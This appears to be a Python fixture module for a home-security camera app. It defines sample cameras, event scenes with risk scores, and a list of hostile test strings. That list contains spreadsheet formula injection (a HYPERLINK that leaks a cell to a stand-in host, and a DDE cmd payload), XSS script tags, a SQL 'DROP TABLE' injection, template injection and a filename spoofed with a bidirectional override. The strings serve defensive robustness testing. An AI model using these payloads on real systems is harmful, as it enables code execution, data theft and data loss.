"""The vocabulary of the sample events: what cameras there are, what happens before them, and text that attacks.

A scene belongs to places, shows objects, is more or less risky by day and by night, and is described in words that fit.
"""

from dataclasses import dataclass


@dataclass(frozen=True)
class SampleCamera:
    """A camera, where it hangs, and its share of the events; `removed` ones left events but no record."""

    id: str
    name: str
    place: str
    share: int
    removed: bool = False


CAMERAS = (
    SampleCamera("front-door", "Front Door", "door", 22),
    SampleCamera("driveway", "Driveway", "street", 20),
    SampleCamera("side-gate", "Side Gate", "yard", 9),
    SampleCamera("back-yard", "Back Yard", "yard", 14),
    SampleCamera("garage", "Garage", "indoor", 6),
    SampleCamera("loading-bay", 'Loading Bay "North", Dock 2', "street", 12),
    SampleCamera("lobby", "Lobby", "indoor", 9),
    SampleCamera("entrance-dubai", "المدخل الرئيسي", "door", 4),
    SampleCamera("shop", "Shop 🛒", "indoor", 3),
    SampleCamera("test-bench", "=Test Bench", "indoor", 1),
    SampleCamera("old-shed", "Old Shed", "yard", 1, removed=True),
)


@dataclass(frozen=True)
class Scene:
    """Something that happens: the objects seen, shares and score ranges by day and by night, and its words."""

    places: tuple[str, ...]
    objects: tuple[str, ...]
    share: tuple[int, int]
    day_score: tuple[int, int]
    night_score: tuple[int, int]
    summaries: tuple[str, ...]
    reasons: tuple[str, ...]


SCENES = (
    Scene(
        ("door", "street"), ("person", "package"), (20, 1), (3, 18), (20, 40),
        ("Courier left a package at {place}", "Delivery at {place}: one parcel, person left at once"),
        ("A person carries a parcel to {place}, puts it down and leaves within {seconds} s. Usual at this hour.",
         "Uniform and parcel suggest a delivery. No attempt to open anything."),
    ),
    Scene(
        ("door", "yard", "indoor"), ("person",), (26, 5), (4, 25), (25, 58),
        ("Known resident walks past {place}", "One person passes {place} without stopping"),
        ("Single person, steady pace, face towards the camera, gone after {seconds} s.",
         "The person moves on a usual path. Nothing is carried away."),
    ),
    Scene(
        ("street",), ("car",), (30, 12), (2, 20), (12, 45),
        ("Car passes {place}", "Car parks at {place}", "Vehicle turns round at {place}"),
        ("One car enters the picture and leaves after {seconds} s; the speed is normal.",
         "The car parks between the lines, lights go off, nobody gets out in view."),
    ),
    Scene(
        ("street", "yard"), ("truck", "person"), (9, 1), (8, 30), (45, 70),
        ("Truck unloads at {place}", "Delivery truck stops at {place}, driver gets out"),
        ("A truck stops for {seconds} s, one person opens the tailgate and carries goods. In working hours.",),
    ),
    Scene(
        ("yard", "door", "street"), ("cat",), (6, 14), (0, 8), (0, 10),
        ("Cat crosses {place}", "A cat sits at {place}"),
        ("Small animal, no person in view for {seconds} s.",),
    ),
    Scene(
        ("yard", "street"), ("person", "dog"), (12, 3), (2, 16), (15, 38),
        ("Person walks a dog past {place}",),
        ("A person with a dog on a lead crosses the picture in {seconds} s and does not look at the house.",),
    ),
    Scene(
        ("yard", "indoor", "street"), (), (7, 12), (0, 5), (0, 9),
        ("Motion at {place}, nothing recognised", "Leaves move in the wind at {place}"),
        ("Motion for {seconds} s, but no object was detected; light and wind explain it.",),
    ),
    Scene(
        ("door", "yard", "indoor"), ("person",), (3, 9), (42, 68), (62, 86),
        ("Person lingers at {place}", "Unknown person looks into the window at {place}"),
        ("The person stays {seconds} s, walks to and fro and looks at the camera twice. No key, no bell.",
         "Nobody rings; the person tries to look inside. Worth a look."),
    ),
    Scene(
        ("door", "yard", "indoor"), ("person", "backpack"), (1, 6), (64, 84), (82, 99),
        ("Person tries the handle at {place}", "Two people with a backpack force {place}"),
        ("Hands on the handle three times within {seconds} s, hood up, face turned away from the camera.",
         "A tool is visible and the lock is worked on for {seconds} s. Somebody should act now."),
    ),
    Scene(
        ("street",), ("car", "person"), (2, 5), (40, 66), (60, 88),
        ("Person tests car doors at {place}", "Car with its lights off waits at {place}"),
        ("The person walks from car to car for {seconds} s and pulls at doors.",
         "A car stands with the engine running for {seconds} s, nobody gets out."),
    ),
)  # fmt: skip  # one scene reads as one paragraph

NOTES = (
    "Checked, it was the neighbour.",
    "False alarm.",
    "Clip saved for the insurance.",
    "Asked the courier to use the side gate.",
    "Same person as last week?",
)

HOSTILE_TEXTS = (
    '=HYPERLINK("https://example.invalid/?"&A1,"Click to see the clip")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    'He said "stop", then "go", and left; quotes and commas',
    "First line\nsecond line\r\nthird line",
    "Person with 🐕 and 👩‍👩‍👧 at the gate 🚪",
    "شخص يقف عند الباب الخلفي",
    "File \u202egpj.exe looks like a picture",
    "<script>alert('event')</script><img src=x onerror=alert(1)>",
    "Robert'); DROP TABLE event;--",
    "",
    "   ",
    "{seconds} %s %(name)s ${HOME} {{7*7}}",
    "Back\\slash, \x07 bell, \x1b[31mred\x1b[0m and \u2028 a line separator",
    "A very long remark. " * 200,
)
"""Text that breaks careless readers and writers: formulas, quotes, line ends, bidirectional and control characters."""
